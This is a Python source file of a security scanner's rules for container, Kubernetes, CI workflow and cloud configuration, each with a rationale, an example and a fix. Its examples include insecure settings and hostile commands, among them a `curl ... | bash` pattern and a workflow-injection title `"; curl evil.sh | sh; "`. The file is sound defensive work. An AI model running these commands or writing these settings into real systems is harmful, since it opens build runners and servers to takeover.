"""Rules of container, Kubernetes, compose and ML-server configuration (CF)."""

from __future__ import annotations

from secplan.model import Confidence, ControlId, Rule, Severity
from secplan.model.rule import atlas, cwe, url
from secplan.scanners.platform import CONTAINER_ROOT

C = ControlId
K8S_PSS = url("https://kubernetes.io/docs/concepts/security/pod-security-standards/")


def _rule(
    id: str, name: str, title: str, severity: Severity, controls: tuple[str, ...], **kw: object
) -> Rule:
    return Rule(
        id=id,
        name=name,
        title=title,
        severity=severity,
        controls=tuple(C(c) for c in controls),
        **kw,  # type: ignore[arg-type]
    )


UNPINNED_BASE_IMAGE = _rule(
    "CF101",
    "unpinned-base-image",
    "Image without a fixed tag or digest",
    Severity.MEDIUM,
    ("PS7", "PS2"),
    summary="A `FROM` line, a compose service's `image:`, a Kubernetes container's `image:`, "
    "the image of a `docker run` command or an image given by keyword in Python code "
    "(`image=`, `container_uri=`) names an image with no tag or the `latest` tag, "
    "and no `@sha256:` digest (or a Kustomize "
    "`images:` entry retags one to `newTag: latest`), so each build or pull may get a "
    "different image.",
    rationale="A moving base image changes the CUDA, Python and system libraries under a model "
    "server without review, and a hijacked tag is pulled in silently.",
    example="FROM pytorch/pytorch:latest",
    remediation="Pin a version tag and, for production images, the digest: "
    "`FROM python:3.11.9-slim@sha256:...`.",
    references=(cwe(1357), url("https://docs.docker.com/reference/dockerfile/#from")),
)
REMOTE_ADD = _rule(
    "CF102",
    "remote-add-source",
    "ADD fetches a remote URL",
    Severity.MEDIUM,
    ("PS7", "MS1"),
    summary="An `ADD` instruction downloads from a URL without `--checksum`, so the image "
    "contains whatever the server returned at build time.",
    rationale="Model weights and tools fetched this way are neither pinned nor verified.",
    example="ADD https://example.org/model.bin /models/",
    remediation="Download in a `RUN` step and verify a known SHA-256, or use "
    "`ADD --checksum=sha256:...`.",
    references=(cwe(494),),
)
PIPED_SCRIPT = _rule(
    "CF103",
    "piped-remote-script",
    "Remote script piped into a shell",
    Severity.HIGH,
    ("PS7",),
    summary="A command line pipes a download (`curl ... | sh`, `wget -qO- ... | sudo bash`, "
    '`bash <(curl ...)`, `sh -c "$(curl ...)"`) straight into a shell or Python: in a '
    "Dockerfile `RUN`, a shell script, a CI pipeline's script (a Cloud Build step's `script` "
    "or shell `entrypoint` with `-c`), or a compose or Kubernetes command. A download piped "
    "into "
    "an interpreter that runs something else (`| python -c ...`, `| python -m json.tool`) is "
    "not reported. Also a Ray `runtime_env` whose `working_dir` or `py_modules` is a branch "
    "archive URL (`.../archive/refs/heads/main.zip`): the workers run whatever the branch "
    "holds.",
    rationale="The script is run unreviewed and unverified; whoever controls the URL or the "
    "connection controls the image.",
    example="RUN curl -fsSL https://example.org/install.sh | bash",
    remediation="Download the script, check its SHA-256 against a pinned value, then run it.",
    references=(cwe(494), cwe(829)),
)
HEALTHCHECK_MISSING = _rule(
    "CF122",
    "healthcheck-missing",
    "Container image without a health check",
    Severity.LOW,
    ("PS7",),
    summary="The final stage of a Dockerfile has no `HEALTHCHECK` instruction, so the runtime "
    "cannot tell a hung model server from a healthy one. Intermediate build stages, "
    "`HEALTHCHECK NONE` (an explicit choice) and development containers (`.devcontainer/`) are "
    "not reported.",
    rationale="A server that stops answering (out of GPU memory, a deadlocked worker) keeps "
    "receiving traffic and raises no alert; a health check lets the orchestrator restart it and "
    "monitoring see it.",
    example='FROM python:3.12-slim\nCMD ["uvicorn", "app:app"]',
    remediation="Add `HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1` (or the "
    "server's own probe), or define liveness and readiness probes where the image runs.",
    confidence=Confidence.MEDIUM,
    references=(url("https://docs.docker.com/reference/dockerfile/#healthcheck"),),
)
UNVERIFIED_TLS_DOWNLOAD = _rule(
    "CF123",
    "unverified-tls-download",
    "Command turns certificate checks off",
    Severity.HIGH,
    ("PS4", "PS7"),
    summary="A command line fetches with certificate checks off: `curl -k`/`--insecure`, "
    "`wget --no-check-certificate`, `git -c http.sslVerify=false`, `conda config --set "
    "ssl_verify false`, `kubectl`/`helm --insecure-skip-tls-verify` (and helm's "
    "`--kube-insecure-skip-tls-verify`), `argocd --insecure`, `podman`/`skopeo "
    "--tls-verify=false`, `uv --allow-insecure-host`, `vault -tls-skip-verify`, or a variable "
    "such as `GIT_SSL_NO_VERIFY=1`, `PYTHONHTTPSVERIFY=0`, `VAULT_SKIP_VERIFY=1` or an empty "
    "`CURL_CA_BUNDLE` (in a script, a Makefile, a CI step, an `ENV`, a compose or Kubernetes "
    "environment); also a setting that turns a client's certificate checks off in "
    'configuration, an annotation or an environment (KServe\'s `s3-verifyssl: "0"`, '
    "`S3_VERIFY_SSL=0`, `verify_ssl: false`, `insecureSkipVerify: true`), or an nginx "
    "`proxy_ssl_verify off;` in front of an https:// upstream. Fetches from localhost are "
    "not reported.",
    rationale="Without certificate checks anyone on the network path can serve their own "
    "script, package, model or dataset in place of the real one.",
    example="curl -k https://example.org/install.sh -o install.sh",
    remediation="Keep verification on; for a private CA install its certificate "
    "(`--cacert`, `SSL_CERT_FILE`, `git config http.sslCAInfo`).",
    references=(cwe(295),),
)
WORLD_WRITABLE = _rule(
    "CF124",
    "world-writable-permissions",
    "Files made writable by every user",
    Severity.MEDIUM,
    ("PS7", "DS2"),
    summary="A command makes files or directories writable by every user: `chmod 777`, "
    "`chmod -R 666`, `chmod o+w`, `chmod a=rwx`, or `umask 000`. Directories with the sticky "
    "bit (`chmod 1777`) are not reported.",
    rationale="Any process or user on the host or in the container can then replace models, "
    "code and data, or plant files that a privileged process later runs.",
    example="RUN chmod -R 777 /app/models",
    remediation="Give ownership to the user that needs it (`chown app:app`, `COPY --chown`) and "
    "keep modes at 755/644 or tighter.",
    references=(cwe(732),),
)
BUILD_SECRET = _rule(
    "CF104",
    "secret-in-image-build",
    "Secret written into an image",
    Severity.HIGH,
    ("PS7", "DS2"),
    summary="An `ENV` or `ARG` whose name looks like a secret (`*_TOKEN`, `*_KEY`, `PASSWORD`, "
    "...) is given a literal value, which stays in the image layers and its history.",
    rationale="Anyone who can pull the image can read the credential.",
    example="ENV HF_TOKEN=hf_abc123",
    remediation="Pass secrets at run time (orchestrator secrets) or at build time with "
    "`RUN --mount=type=secret`; rotate the exposed credential.",
    references=(cwe(798), cwe(538)),
)
PRIVILEGED = _rule(
    "CF105",
    "privileged-container",
    "Privileged container",
    Severity.CRITICAL,
    ("PS6", "PS7"),
    summary="A Kubernetes container sets `securityContext.privileged: true`, a compose "
    "service `privileged: true`, a `docker run`/`podman run` command line (shell script, "
    "Makefile, CI step) passes `--privileged`, or Python starts a container with "
    "`privileged=True` (Airflow `DockerOperator`, Docker SDK `containers.run`) or a pod with "
    "a privileged security context (`KubernetesPodOperator`, `V1SecurityContext`); also an ECS "
    "container definition in Terraform with `privileged = true`, and JupyterHub's "
    "DockerSpawner `extra_host_config` with `privileged`.",
    rationale="A privileged container has every capability and every host device: one flaw in "
    "a model server is root on the node. GPU access does not need it.",
    example="securityContext:\n  privileged: true",
    remediation="Remove `privileged`; expose GPUs through the NVIDIA device plugin "
    "(`resources.limits: nvidia.com/gpu: 1`) or compose `deploy.resources.reservations.devices`.",
    references=(cwe(250), K8S_PSS),
)
HOST_NAMESPACE = _rule(
    "CF106",
    "host-namespace-shared",
    "Workload shares the host's network, PID or IPC namespace",
    Severity.HIGH,
    ("PS5", "PS7"),
    summary="`hostNetwork`, `hostPID` or `hostIPC` is true (Kubernetes), `network_mode`, "
    "`pid` or `ipc` is `host` (compose), a `docker run`/`podman run` command line passes "
    "`--net=host`, `--network host`, `--pid=host`, `--ipc=host` or `--uts=host`, or Python "
    'starts a container with `network_mode="host"` (or `pid_mode`, `ipc_mode`).',
    rationale="The workload then sees host processes and listens on the host's interfaces, past "
    "any network policy.",
    example="spec:\n  hostNetwork: true",
    remediation="Remove the setting; publish ports through a Service instead.",
    references=(K8S_PSS,),
)
WORKLOAD_ROOT = _rule(
    "CF107",
    "workload-runs-as-root",
    "Workload may run as root",
    Severity.MEDIUM,
    ("PS7", "MS6"),
    summary="A Kubernetes container has neither `runAsNonRoot: true` nor a non-zero "
    "`runAsUser` (pod or container level), or sets `runAsUser: 0`; a compose service sets "
    "`user: root` or `user: 0`; a `docker run` command line passes `--user root` or `-u 0`.",
    rationale="Root in the container makes every code-execution flaw in a model server worse.",
    example="containers:\n- name: server\n  image: triton:24.01",
    remediation="Set `securityContext.runAsNonRoot: true` and `runAsUser: 10001`.",
    references=(cwe(250), K8S_PSS),
)
PRIVILEGE_ESCALATION = _rule(
    "CF108",
    "privilege-escalation-allowed",
    "Privilege escalation not disabled",
    Severity.MEDIUM,
    ("PS7",),
    summary="A Kubernetes container does not set `allowPrivilegeEscalation: false`.",
    rationale="Without it a process can gain more privileges than its parent (setuid binaries).",
    example="securityContext:\n  runAsNonRoot: true",
    remediation="Set `securityContext.allowPrivilegeEscalation: false` on every container.",
    references=(K8S_PSS,),
)
ADDED_CAPABILITIES = _rule(
    "CF109",
    "dangerous-capabilities",
    "Dangerous Linux capabilities added",
    Severity.HIGH,
    ("PS7", "PS6"),
    summary="A container adds `SYS_ADMIN`, `NET_ADMIN`, `SYS_PTRACE`, `SYS_MODULE`, "
    "`DAC_READ_SEARCH`, `NET_RAW` or `ALL` (Kubernetes `capabilities.add`, compose `cap_add`, "
    "`docker run --cap-add`).",
    rationale="These capabilities break container isolation (mounts, kernel modules, tracing "
    "other processes, raw network access).",
    example="capabilities:\n  add: [SYS_ADMIN]",
    remediation="Drop `ALL` and add back only what is needed (often nothing).",
    references=(cwe(250), K8S_PSS),
)
HOST_PATH = _rule(
    "CF110",
    "host-path-mount",
    "Host directory mounted into a container",
    Severity.MEDIUM,
    ("PS7",),
    summary="A Kubernetes `hostPath` volume, or a compose or `docker run -v`/`--mount` bind "
    "mount of a host system path (`/`, `/etc`, `/var/run/docker.sock`, `/proc`, ...). The "
    "container runtime socket is critical.",
    rationale="Host mounts let a compromised workload read or change the node; the runtime "
    "socket is root on the host.",
    example="volumes:\n- name: data\n  hostPath: {path: /var/run/docker.sock}",
    remediation="Use persistent volumes, ConfigMaps or Secrets instead of host paths.",
    references=(cwe(668), K8S_PSS),
)
GPU_DEVICE_MOUNT = _rule(
    "CF111",
    "gpu-device-mount",
    "GPU device nodes mounted directly",
    Severity.MEDIUM,
    ("PS6",),
    summary="A container mounts `/dev/nvidia*` (or `/dev/dri`, `/dev/kfd`) from the host through "
    "a host path, a `devices:` entry or `docker run --device` instead of a device plugin or "
    "GPU reservation.",
    rationale="Raw device mounts bypass the scheduler's GPU isolation and accounting and expose "
    "driver interfaces that have had privilege-escalation flaws.",
    example="devices:\n- /dev/nvidia0:/dev/nvidia0",
    remediation="Request GPUs through the NVIDIA device plugin (`nvidia.com/gpu`) or compose "
    "`deploy.resources.reservations.devices: [{capabilities: [gpu]}]`.",
    references=(url("https://github.com/NVIDIA/k8s-device-plugin"),),
)
RESOURCE_LIMITS = _rule(
    "CF112",
    "resource-limits-missing",
    "Container without resource limits",
    Severity.LOW,
    ("PS7",),
    summary="A Kubernetes container has no `resources.limits` for memory or CPU; a compose "
    "service has no memory limit (`mem_limit` or `deploy.resources.limits.memory`).",
    rationale="An unbounded model server can be driven out of memory by large inputs and take "
    "its node down with it.",
    example="containers:\n- name: llm\n  image: vllm/vllm-openai:v0.6.3",
    remediation="Set `resources.limits.memory` (and `cpu`) for every container.",
    references=(cwe(770),),
)
LITERAL_SECRET = _rule(
    "CF113",
    "literal-secret-in-env",
    "Secret given as a literal environment value",
    Severity.HIGH,
    ("PS7", "DS2"),
    summary="An environment variable whose name looks like a secret has a literal value in a "
    "Kubernetes manifest or compose file.",
    rationale="Manifests live in git and in the cluster's API objects; the value is readable by "
    "everyone who can read either.",
    example="env:\n- name: OPENAI_API_KEY\n  value: sk-...",
    remediation="Reference a Secret (`valueFrom.secretKeyRef`, compose `secrets:`) and rotate "
    "the exposed value.",
    references=(cwe(798),),
)
EXPOSED_WITHOUT_TLS = _rule(
    "CF114",
    "model-server-exposed-without-tls",
    "Model server exposed outside the cluster without TLS",
    Severity.HIGH,
    ("PS5", "PS4", "MS6"),
    summary="A Service of type LoadBalancer or NodePort selects a model-serving workload "
    "(Triton, TorchServe, vLLM, TGI, TF Serving, MLflow, Ray, Jupyter, ...), the pods a "
    "serving platform labels as its model server (KServe's "
    "`serving.kserve.io/inferenceservice`, Seldon's `seldon-deployment-id`), or a server "
    "started without client authentication (`argo server --auth-mode=server`), and exposes "
    "no TLS port (443 or a port named https) nor a load-balancer certificate annotation; "
    "likewise a model server's or a Dask scheduler's `service.type` or `serviceType` in Helm "
    "values (a chart's, or a values file kept apart from it such as `dask-values.yaml`).",
    rationale="Inference traffic and any credentials then cross the network in clear text, and "
    "the server's management endpoints are reachable from outside.",
    example="kind: Service\nspec: {type: LoadBalancer, selector: {app: triton}}",
    remediation="Keep model servers on ClusterIP behind an Ingress or gateway that terminates "
    "TLS and authenticates callers.",
    confidence=Confidence.MEDIUM,
    references=(cwe(319),),
)
NETWORK_POLICY_MISSING = _rule(
    "CF115",
    "network-policy-missing",
    "Workloads without any NetworkPolicy",
    Severity.MEDIUM,
    ("PS5",),
    summary="The project's Kubernetes manifests define workloads but no NetworkPolicy, so every "
    "pod accepts traffic from every other pod.",
    rationale="Without segmentation one compromised component (a notebook, a demo) reaches the "
    "model registry, the training data and every other server.",
    example="A Deployment and a Service, no NetworkPolicy.",
    remediation="Add a default-deny NetworkPolicy per namespace and allow only the flows needed.",
    confidence=Confidence.MEDIUM,
    references=(url("https://kubernetes.io/docs/concepts/services-networking/network-policies/"),),
)
CONFIG_NOT_PARSED = _rule(
    "CF116",
    "config-not-parsed",
    "Configuration file that could not be parsed",
    Severity.MEDIUM,
    ("PS7",),
    summary="A Kubernetes, compose or ML-server configuration file is malformed, too large or "
    "over a parser limit (documents, nesting, aliases), so it was not verified.",
    rationale="A file the scanner cannot read is a file nobody checked; a YAML alias bomb is "
    "also a denial-of-service attempt on whatever loads it.",
    example="deployment.yaml with a tab-indented block.",
    remediation="Fix the syntax (`kubectl apply --dry-run=client`, `docker compose config`).",
)
UNAUTHENTICATED_SERVER = _rule(
    "CF117",
    "ml-server-without-auth",
    "ML server reachable without authentication",
    Severity.HIGH,
    ("PS3", "MS6"),
    summary="A Jupyter server with an empty token and no password, an MLflow tracking server on "
    "all interfaces without `--app-name basic-auth`, TorchServe with "
    "`disable_token_authorization=true`, a vLLM/OpenAI-compatible server without `--api-key`, "
    "a Gradio/Streamlit demo started on all interfaces (also through `GRADIO_SERVER_NAME`), or "
    "a dashboard without authentication of its own bound to all interfaces (`feast serve -h "
    "0.0.0.0`, Aim, Optuna Dashboard, Kedro-Viz, Evidently, Voila, Panel, llama.cpp's server, "
    "Chroma, Celery Flower, code-server `--auth none`), an Argo Workflows server with "
    "`--auth-mode=server`, Spark with `spark.authenticate false`, or Airflow's REST API left "
    "on the "
    "allow-all backend (`AIRFLOW__API__AUTH_BACKENDS: airflow.api.auth.backend.default`). A "
    "compose service that publishes a known unauthenticated UI (Kafka UI, Redpanda Console, "
    "Kafdrop, Qdrant, Ollama, a Gradio app, Celery Flower, a Ray head's Serve port, ...) on "
    "every host interface is reported at its port; a port published on loopback only is "
    "not. A Kubernetes LoadBalancer or NodePort Service in front of the Kubeflow Pipelines "
    "UI or a Ray head's dashboard port is reported at its `type`. JupyterHub with the dummy "
    "authenticator (`jupyterhub_config.py` or Zero to JupyterHub's `hub.config`), or an "
    "authenticator with `allow_all = True` (every account of the identity provider), is "
    "reported too.",
    rationale="Notebook and tracking servers run code and hold data and models; unauthenticated "
    "instances are found and taken over by internet-wide scans within hours.",
    example="jupyter lab --ip=0.0.0.0 --ServerApp.token=''",
    remediation="Turn authentication on (Jupyter token or password, MLflow basic-auth, "
    "TorchServe tokens, `--api-key`), or put the server behind an authenticating proxy.",
    references=(cwe(306), atlas("AML.T0049")),
)
ALL_INTERFACES = _rule(
    "CF118",
    "ml-server-all-interfaces",
    "ML server interface bound to all addresses",
    Severity.MEDIUM,
    ("PS5",),
    summary="A Jupyter config sets `ip` to `0.0.0.0`/`*`, TorchServe's inference address is on "
    "0.0.0.0 over plain http or with token authorization disabled, or TensorBoard runs with "
    "`--bind_all`.",
    rationale="The service is reachable from every network the host is on, not only from where "
    "it is needed.",
    example="c.ServerApp.ip = '0.0.0.0'",
    remediation="Bind to 127.0.0.1 and publish through an authenticating proxy, or restrict "
    "reachability with a network policy.",
    confidence=Confidence.MEDIUM,
    references=(cwe(1327),),
)
ROOT_NOTEBOOK = _rule(
    "CF119",
    "notebook-runs-as-root",
    "Jupyter allowed to run as root",
    Severity.MEDIUM,
    ("PS7", "PS3"),
    summary="Jupyter is started with `--allow-root` or `allow_root = True`.",
    rationale="Code typed into the notebook runs as root.",
    example="jupyter lab --allow-root",
    remediation="Run the notebook server as an unprivileged user.",
    references=(cwe(250),),
)
MANAGEMENT_API_EXPOSED = _rule(
    "CF120",
    "management-api-exposed",
    "Model management or job API exposed",
    Severity.HIGH,
    ("PS7", "MS6", "PS5"),
    summary="Triton runs with `--model-control-mode=explicit`, TorchServe's management address "
    "is on 0.0.0.0, or a Ray head starts its dashboard (and Jobs API) on 0.0.0.0.",
    rationale="These APIs load and replace models or run submitted code; the Ray Jobs API has no "
    "authentication (CVE-2023-48022, exploited as ShadowRay).",
    example="ray start --head --dashboard-host=0.0.0.0",
    remediation="Keep management and job APIs on localhost or a private admin network with "
    "authentication; use `--model-control-mode=none` in production.",
    references=(cwe(306), url("https://nvd.nist.gov/vuln/detail/CVE-2023-48022")),
)
REMOTE_CODE_TRUSTED = _rule(
    "CF121",
    "remote-code-trusted",
    "Server trusts remote model code",
    Severity.HIGH,
    ("MS1", "PS7"),
    summary="A model server is started with `--trust-remote-code` (or `TRUST_REMOTE_CODE=true` "
    "in its environment), or a training or serving configuration (YAML or JSON) sets "
    "`trust_remote_code: true`: Python shipped in the model repository runs.",
    rationale="Whoever can change the model repository can run code in the server.",
    example="vllm serve org/model --trust-remote-code",
    remediation="Use models whose architecture is built in, or vendor and review the code and "
    "pin the model revision.",
    references=(cwe(94), atlas("AML.T0010")),
)

PASSWORDLESS_SUDO = _rule(
    "CF125",
    "passwordless-sudo",
    "Runtime user can become root without a password",
    Severity.HIGH,
    ("PS6", "PS7"),
    summary="A Dockerfile gives a user `NOPASSWD` sudo (a line written to `/etc/sudoers` or "
    "`sudoers.d`), or a Jupyter image is started with `GRANT_SUDO=yes` (compose, Kubernetes, "
    "`ENV`).",
    rationale="A non-root `USER` only limits what a compromised process can do if that user "
    "cannot simply become root; passwordless sudo undoes it.",
    example='RUN echo "app ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
    remediation="Install what the image needs at build time as root, then drop to a user "
    "without sudo; do not set GRANT_SUDO for shared or exposed notebooks.",
    references=(cwe(250), cwe(269), K8S_PSS),
)

SECURITY_PROFILE_OFF = _rule(
    "CF126",
    "security-profile-disabled",
    "Seccomp or AppArmor confinement turned off",
    Severity.HIGH,
    ("PS6", "PS7"),
    summary="A compose service sets `security_opt: seccomp:unconfined` or "
    "`apparmor:unconfined` (a `docker run` command line `--security-opt seccomp=unconfined`, "
    "`apparmor=unconfined` or `label=disable`), or a pod or container sets "
    "`seccompProfile.type: Unconfined` or an `Unconfined` AppArmor profile.",
    rationale="The default seccomp and AppArmor profiles block the system calls most container "
    "escapes rely on; turning them off leaves the host kernel fully exposed.",
    example="security_opt:\n  - seccomp:unconfined",
    remediation="Remove the option (the runtime default applies), or write a profile that "
    "allows only the extra calls the workload needs.",
    references=(cwe(250), K8S_PSS, url("https://docs.docker.com/engine/security/seccomp/")),
)

GHA_HARDENING = url(
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
    "security-hardening-for-github-actions"
)
WORKFLOW_INJECTION = _rule(
    "CF127",
    "workflow-script-injection",
    "CI workflow expands untrusted event data into a script",
    Severity.HIGH,
    ("PS7",),
    summary="A GitHub Actions `run:` script (or an `actions/github-script` script) contains a "
    "`${{ }}` expression of data that whoever opens an issue, a pull request, a comment or a "
    "branch, or fills in a dispatch form, chooses: `github.event.issue.title`, "
    "`github.event.pull_request.body`, `github.head_ref`, `github.event.inputs.*`...; or an "
    "Argo workflow pastes a submission parameter (`{{workflow.parameters.*}}`) into a "
    "shell's `-c` string or a script template's `source`.",
    rationale="The expression is pasted into the script before the shell runs it, so a title "
    'such as `"; curl evil.sh | sh; "` runs on the runner, with the job\'s token and secrets '
    "(on self-hosted GPU runners, inside the training network).",
    example='run: echo "${{ github.event.issue.title }}"',
    remediation="Pass the value through an environment variable (`env: TITLE: ${{ ... }}`) "
    'and use `"$TITLE"` in the script.',
    references=(cwe(78), cwe(94), GHA_HARDENING),
)
WORKFLOW_PR_TARGET = _rule(
    "CF128",
    "workflow-untrusted-checkout",
    "pull_request_target workflow checks out the pull request's code",
    Severity.HIGH,
    ("PS7",),
    summary="A workflow triggered by `pull_request_target` (which runs with the base "
    "repository's secrets and a write token) checks out the pull request's head "
    "(`ref: ${{ github.event.pull_request.head.sha }}`, `github.head_ref`, `refs/pull/...`).",
    rationale="Any build, test or install step that follows runs code from a fork with the "
    'repository\'s secrets: the "pwn request".',
    example="on: pull_request_target\n...\n- uses: actions/checkout@v4\n  with:\n"
    "    ref: ${{ github.event.pull_request.head.sha }}",
    remediation="Use `pull_request` for anything that runs the contributor's code; keep "
    "`pull_request_target` for labelling and commenting without a checkout of the head.",
    references=(cwe(829), GHA_HARDENING),
)
WORKFLOW_UNPINNED_ACTION = _rule(
    "CF129",
    "workflow-action-not-pinned",
    "Third-party action not pinned to a commit",
    Severity.MEDIUM,
    ("PS7", "PS2"),
    summary="A workflow step `uses:` an action from outside GitHub's own `actions/` and "
    "`github/` organisations at a tag or branch, not a full 40-character commit SHA.",
    rationale="Tags move: a compromised action (as tj-actions/changed-files in 2025) runs "
    "new code in every workflow that names its tag, with their secrets.",
    example="- uses: some-org/setup-tool@v2",
    remediation="Pin the commit: `uses: some-org/setup-tool@<40-hex sha> # v2`, and let a "
    "bot propose updates.",
    confidence=Confidence.HIGH,
    references=(cwe(829), GHA_HARDENING),
)
WORKFLOW_PERMISSIONS = _rule(
    "CF130",
    "workflow-write-all",
    "Workflow token with write access to everything",
    Severity.MEDIUM,
    ("PS7",),
    summary="A workflow or job sets `permissions: write-all`.",
    rationale="Every step, action and script of the job can then push code, publish releases "
    "and packages and change settings with the job's token.",
    example="permissions: write-all",
    remediation="Grant only what the job needs (`permissions: {contents: read}` and, per job, "
    "the one write scope it uses).",
    references=(cwe(250), GHA_HARDENING),
)
WORKFLOW_SECRET_PRINTED = _rule(
    "CF131",
    "workflow-secret-printed",
    "CI script prints a secret",
    Severity.MEDIUM,
    ("PS7", "DS2"),
    summary="A `run:` script passes `${{ secrets.* }}` to `echo` or `printf` without "
    "redirecting it to a file.",
    rationale="Log masking only hides the exact value; a transformed, split or encoded copy "
    "is printed in the clear to everyone who can read the logs.",
    example='run: echo "token=${{ secrets.HF_TOKEN }}"',
    remediation="Do not print secrets; pass them to the tool in an environment variable.",
    references=(cwe(532), GHA_HARDENING),
)
INTERNET_INGRESS = _rule(
    "CF132",
    "ml-port-open-to-internet",
    "Firewall opens an ML server port to the internet",
    Severity.HIGH,
    ("PS5", "PS3"),
    summary="A Terraform security group, firewall or network rule (AWS, Azure network security "
    "rules, Google firewalls, OCI security lists) lets `0.0.0.0/0` or `::/0` (Azure: source "
    "`*`, `Internet`, `Any`) reach a port ML servers listen on: Jupyter 8888, MLflow 5000, "
    "Ray 8265/10001/6379, TensorBoard 6006, Gradio 7860, Streamlit 8501, Triton 8001-8002, "
    "TorchServe 8081-8082, Ollama 11434, Flower 9091-9093, Dask 8786-8787 (generic web ports "
    "are left out). It is reported at the line that lets any source in.",
    rationale="Most of these servers have no authentication of their own, and several run "
    "submitted code (notebooks, Ray jobs, model loading); open to the internet, they are "
    "found by scanners within hours.",
    example="ingress {\n  from_port   = 8888\n  to_port     = 8888\n"
    '  cidr_blocks = ["0.0.0.0/0"]\n}',
    remediation="Allow only the office or VPN ranges that need the server, or put it behind "
    "an authenticating proxy or load balancer with TLS.",
    references=(cwe(284), cwe(306)),
)
PUBLIC_STORAGE = _rule(
    "CF133",
    "storage-public-acl",
    "Storage readable by anyone",
    Severity.HIGH,
    ("PS3", "DS2"),
    summary="A bucket or container is given a public ACL in Terraform (`acl = "
    '"public-read"`, `predefined_acl = "publicRead"`, Azure `container_access_type = '
    '"blob"`).',
    rationale="Training data, model weights and features stored there can be listed and "
    "downloaded by anyone on the internet.",
    example='acl = "public-read"',
    remediation='Use `acl = "private"` (and block public access); share through signed URLs.',
    references=(cwe(284), cwe(552)),
)
UNENCRYPTED_STORAGE = _rule(
    "CF134",
    "storage-encryption-off",
    "Storage or transfer encryption turned off",
    Severity.MEDIUM,
    ("PS4",),
    summary="A Terraform resource sets `encrypted = false`, `storage_encrypted = false`, "
    "`encrypt_at_rest = false` or `enable_https_traffic_only = false`; a Bicep resource sets "
    "`supportsHttpsTrafficOnly: false` or `httpsOnly: false`.",
    rationale="Disks, databases and storage accounts holding datasets and models are then "
    "readable from snapshots, backups or the wire without a key.",
    example="storage_encrypted = false",
    remediation="Turn encryption on (with a customer-managed KMS key for sensitive data).",
    references=(cwe(311),),
)
PSS_RESTRICTED = _rule(
    "CF135",
    "pss-restricted-gaps",
    "Container short of the Restricted pod security profile",
    Severity.LOW,
    ("PS7",),
    summary="A Kubernetes container (in any workload or custom resource) does not drop ALL "
    "capabilities, or neither it nor its pod sets a `RuntimeDefault` or `Localhost` seccomp "
    "profile: two requirements of the Pod Security Standards' Restricted profile that the "
    "other rules (privileged, root, escalation, added capabilities) do not cover.",
    rationale="A namespace enforcing the Restricted profile rejects the pod; elsewhere the "
    "container keeps capabilities and system calls a model server never needs, which a "
    "container escape uses.",
    example="securityContext:\n  allowPrivilegeEscalation: false",
    remediation="Add `capabilities: {drop: [ALL]}` to the container's securityContext and "
    "`seccompProfile: {type: RuntimeDefault}` to the pod's.",
    references=(K8S_PSS,),
)
SHELL_EVAL_ARGUMENTS = _rule(
    "CF136",
    "shell-eval-of-arguments",
    "Shell script evaluates its arguments as code",
    Severity.HIGH,
    ("PS7",),
    summary="A shell script runs `eval` on its own arguments (`$*`, `$@`, `$1`...), directly "
    'or through a variable set from them (`CMD="$1"` ... `eval "$CMD $*"`). `eval` of a '
    'command substitution (`eval "$(ssh-agent -s)"`) or of variables the script sets itself '
    "is not reported.",
    rationale="Whatever calls the script (a CI job, a scheduler, a web hook, a user) passes "
    "text that the shell parses again, so quotes, `;` and `$(...)` in an argument run as "
    "commands with the script's credentials (Hub tokens, cloud keys).",
    example='CMD="$1"; shift\neval "$CMD $*"',
    remediation='Run the arguments as words, not code: `"$@"`, or a `case` over the commands '
    "the script allows.",
    references=(cwe(78), cwe(95)),
)

RULES = (
    CONTAINER_ROOT,
    UNPINNED_BASE_IMAGE,
    REMOTE_ADD,
    PIPED_SCRIPT,
    BUILD_SECRET,
    PRIVILEGED,
    HOST_NAMESPACE,
    WORKLOAD_ROOT,
    PRIVILEGE_ESCALATION,
    ADDED_CAPABILITIES,
    HOST_PATH,
    GPU_DEVICE_MOUNT,
    RESOURCE_LIMITS,
    LITERAL_SECRET,
    EXPOSED_WITHOUT_TLS,
    NETWORK_POLICY_MISSING,
    CONFIG_NOT_PARSED,
    UNAUTHENTICATED_SERVER,
    ALL_INTERFACES,
    ROOT_NOTEBOOK,
    MANAGEMENT_API_EXPOSED,
    REMOTE_CODE_TRUSTED,
    HEALTHCHECK_MISSING,
    UNVERIFIED_TLS_DOWNLOAD,
    WORLD_WRITABLE,
    PASSWORDLESS_SUDO,
    SECURITY_PROFILE_OFF,
    WORKFLOW_INJECTION,
    WORKFLOW_PR_TARGET,
    WORKFLOW_UNPINNED_ACTION,
    WORKFLOW_PERMISSIONS,
    WORKFLOW_SECRET_PRINTED,
    INTERNET_INGRESS,
    PUBLIC_STORAGE,
    UNENCRYPTED_STORAGE,
    PSS_RESTRICTED,
    SHELL_EVAL_ARGUMENTS,
)
__all__ = [r for r in dir() if r.isupper() and r not in ("C", "K8S_PSS")]
